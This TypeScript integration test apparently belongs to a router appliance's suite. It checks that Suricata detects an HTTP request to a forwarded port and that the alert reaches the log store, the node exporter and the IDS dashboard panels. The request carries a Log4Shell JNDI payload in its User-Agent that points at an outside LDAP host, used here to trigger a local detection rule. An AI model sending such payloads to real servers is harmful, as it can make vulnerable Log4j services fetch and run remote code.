/**
 * The IDS's events on the appliance: with the observability pods running (the log store, the log collector and
 * the node exporter: the observability area's pods), the rendered IDS pod's Suricata in IDS mode (AF_PACKET on
 * the watched links) and its metrics agent. A JNDI lookup in an HTTP request from the internet to a forwarded
 * port must be in the log store within 5 s as a structured alert record (source:ids, its sid, the attacker, and
 * the community ID this test computes from the flow), and the node exporter must serve the agent's count of it.
 *
 * Stand-ins: the rules are the site's local rules where suricata-update would have left them (as in the ids
 * area); the agent is the script of images/ids, as the image carries it. The block agent does not run here (the
 * ids area proves blocking); the inline queue is not loaded, so the forwarded host answers. With both Suricata
 * processes reporting to the agent, every IDS panel of the rendered dashboards has data in Prometheus (the
 * observability area lists them as IDS_LATER).
 */
import { afterAll, beforeAll, expect, it } from "vitest";
import { join } from "node:path";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { nthAddress } from "../../../../components/site/ip";
import { IDS_DAEMONSET } from "../../../../components/ids-stack/k8s";
import { renderLocalRules, ROUTER_IDS_PATHS } from "../../../../components/ids-stack/suricata";
import { OBSERVABILITY_PORTS } from "../../../../components/site/schema-observability";
import { hostPort } from "../../../../components/observability-stack/targets";
import { communityId } from "../../../ids/lib/community-id";
import { waitFor } from "../../../helpers/wait";
import { type Appliance, ROOT } from "../appliance";
import type { Daemon } from "../exec";
import { INTERNET } from "../internet";
import type { Area } from "../suite";
import { startSuricata } from "./ids";
import { durationSeconds } from "../../../../components/site/duration";
import { IDS_LATER, NO_DATA_HERE, query, renderedPanelQueries } from "./observability-metrics";

const SURICATA = `${IDS_DAEMONSET}-suricata-ids`;
const SURICATA_IPS = `${IDS_DAEMONSET}-suricata-ips`;
const AGENT = `${IDS_DAEMONSET}-metrics`;
/** The last address of the IDS areas' pool, beyond the sources the ids area uses (this area blocks nothing). */
const SOURCE = nthAddress(INTERNET.idsPool4, 30);
const JNDI_SID = 9100003;

/** A single-port TCP forward open to any internet source on every WAN, and where it leads. */
function openForward(app: Appliance) {
  const pf = app.site.portForwards.find(
    (p) => p.protocol === "tcp" && !String(p.port).includes("-") && p.wans === undefined && p.sources === undefined,
  );
  return pf && { url: `http://${app.wans[0].addr4}:${pf.port}/` };
}

export const idsEvents: Area = {
  title: "ids-events",
  // the site's own JNDI rule (the dev site's local rules) is what the request must raise
  appliesTo: (site) =>
    site.ids.enabled &&
    site.observability.enabled &&
    site.ids.rules.local.some((r) => r.includes(`sid:${JNDI_SID};`)) &&
    site.portForwards.some((p) => p.protocol === "tcp" && !String(p.port).includes("-") && !p.wans && !p.sources),
  tests(ctx) {
    const started: Daemon[] = [];
    beforeAll(async () => {
      const app = ctx.app;
      app.exec(app.inet, ["ip", "addr", "replace", `${SOURCE}/32`, "dev", "lo"]);
      writeFileSync(join(app.pods.hostPath(ROUTER_IDS_PATHS.rules), "suricata.rules"), renderLocalRules(app.site));
      const agent = app.pods.spec(AGENT);
      started.push(
        app.pods.start({ ...agent, command: [join(ROOT, "images/ids", agent.command[0]), ...agent.command.slice(1)] }),
      );
      // the inline process too where the site has one: idle here (no queue rule is loaded), it reports its
      // verdict counters to the agent, which the IPS dashboard panel reads
      const processes = [SURICATA, ...(app.pods.specs.some((p) => p.name === SURICATA_IPS) ? [SURICATA_IPS] : [])];
      for (const name of processes) started.push(await startSuricata(app, name));
    }, 180_000);
    afterAll(async () => {
      for (const d of started.reverse()) await d.stop();
    }, 60_000);

    it("a JNDI lookup from the internet to a forwarded port is in the log store within 5 s as an alert record with its community ID and sid, and counted in the node exporter's metrics", async () => {
      const app = ctx.app;
      const fwd = openForward(app)!;
      const mgmt = app.client(app.plan.managementSegment);
      const store = `http://${hostPort(app.plan.managementAddress, OBSERVABILITY_PORTS.logs)}`;
      const eve = join(app.pods.hostPath(ROUTER_IDS_PATHS.logs), "ids", "eve.json");
      // Suricata's own alert records in its file for one source port (the ids area's process wrote there too, of
      // other sources; earlier requests of this test used other ports)
      const alertedInFile = (port: number) =>
        existsSync(eve) &&
        readFileSync(eve, "utf8")
          .split("\n")
          .filter((l) => l.includes('"event_type":"alert"'))
          .flatMap((l) => {
            try {
              return [JSON.parse(l) as { src_ip: string; src_port: number; alert: { signature_id: number } }];
            } catch {
              return []; // a line Suricata is still writing
            }
          })
          .some((e) => e.src_ip === SOURCE && e.src_port === port && e.alert.signature_id === JNDI_SID);
      const diagnosis = () =>
        [
          ...[...started, app.pods.running.get("log-collector-syslog-ng")].map(
            (x) => `--- ${x?.name}\n${x?.log().slice(-1500)}`,
          ),
          `--- ${eve}\n${existsSync(eve) ? readFileSync(eve, "utf8").slice(-2000) : "(none)"}`,
        ].join("\n");
      const ua = "${jndi:ldap://198.51.100.7:1389/Exploit}";
      const stored = async (port: number) => {
        const q = `source:ids event_type:alert src_ip:"${SOURCE}" src_port:${port} alert.signature_id:${JNDI_SID}`;
        const r = await app.run(
          mgmt.ns,
          ["curl", "-sf", "--max-time", "2", `${store}/select/logsql/query`, "--data-urlencode", `query=${q}`],
          { allowFail: true },
        );
        const rows = r.stdout.split("\n").filter(Boolean);
        return rows.length ? (JSON.parse(rows[0]) as Record<string, string>) : undefined;
      };
      // A capture that has just started may miss a first connection, or see it whole but alert only when the flow
      // times out (pkt_src "stream (flow timeout)", ten seconds and more later): each request comes from its own
      // source port, and only that request's record counts. Suricata's own file says whether it alerted on it;
      // once it has (on the wire, within the 5 s), the record must be in the store within 5 s of the request.
      let record: Record<string, string> | undefined;
      let sent = 0;
      let attempts = 0;
      const firstPort = 20_000 + Math.floor(Math.random() * 20_000);
      for (; attempts < 4 && !record; attempts++) {
        const port = firstPort + attempts;
        sent = Date.now();
        await app.run(
          app.inet,
          [
            "curl",
            "-s",
            "-o",
            "/dev/null",
            "-m",
            "2",
            "--interface",
            SOURCE,
            "--local-port",
            String(port),
            "-A",
            ua,
            fwd.url,
          ],
          { allowFail: true },
        );
        record = await waitFor(
          "the alert in the log store",
          () => stored(port),
          5_000 - (Date.now() - sent),
          200,
        ).catch(() => undefined);
        if (!record && alertedInFile(port))
          throw new Error(
            `Suricata alerted on request ${attempts + 1} (source port ${port}) but the log store has no record within 5 s\n${diagnosis()}`,
          );
      }
      if (!record) throw new Error(`Suricata raised no alert for four requests\n${diagnosis()}`);
      const took = Date.now() - sent;
      expect(took).toBeLessThanOrEqual(5_000);
      const cid = communityId(record.src_ip, Number(record.src_port), record.dest_ip, Number(record.dest_port), 6);
      expect(record).toMatchObject({
        sensor: "suricata",
        src_ip: SOURCE,
        community_id: cid,
        "alert.action": "allowed",
      });
      console.log(
        `${ctx.title}: the alert from ${SOURCE} in the log store ${(took / 1000).toFixed(1)} s after it (request ${attempts} of 4)`,
      );

      const exporter = `http://${hostPort(app.plan.managementAddress, OBSERVABILITY_PORTS.nodeExporter)}/metrics`;
      const sample = `router_ids_alerts_total{action="allowed",process="ids",severity="${record["alert.severity"]}"}`;
      await waitFor(
        `${sample} from the node exporter\n${diagnosis()}`,
        async () => {
          const r = await app.run(mgmt.ns, ["curl", "-sf", "--max-time", "2", exporter], { allowFail: true });
          const line = r.stdout.split("\n").find((l) => l.startsWith(sample));
          return line && Number(line.split(" ")[1]) >= 1 ? true : undefined;
        },
        30_000,
        1000,
      );
    }, 90_000);

    it("has data for every IDS panel query of the rendered dashboards (alerts, packets, capture drops, inline verdicts) once the IDS runs", async () => {
      const app = ctx.app;
      const queries = [
        ...new Set(
          renderedPanelQueries(app)
            .map(([, , q]) => q)
            .filter((q) => NO_DATA_HERE[q] === IDS_LATER),
        ),
      ].sort();
      expect(queries.length, "the dashboards' IDS panels").toBeGreaterThanOrEqual(4);
      // rate() needs two scrapes of the agent's counters in its window
      const interval = durationSeconds(app.site.observability.scrapeInterval);
      let empty = queries;
      await waitFor(
        "every IDS panel query to return data",
        async () => {
          const now: string[] = [];
          for (const q of queries) if (!(await query(app, q).catch(() => [])).length) now.push(q);
          empty = now;
          return empty.length === 0;
        },
        (4 * interval + 30) * 1000,
        interval * 1000,
      ).catch(() => undefined);
      expect(empty, "IDS panel queries without data").toEqual([]);
    }, 180_000);
  },
};
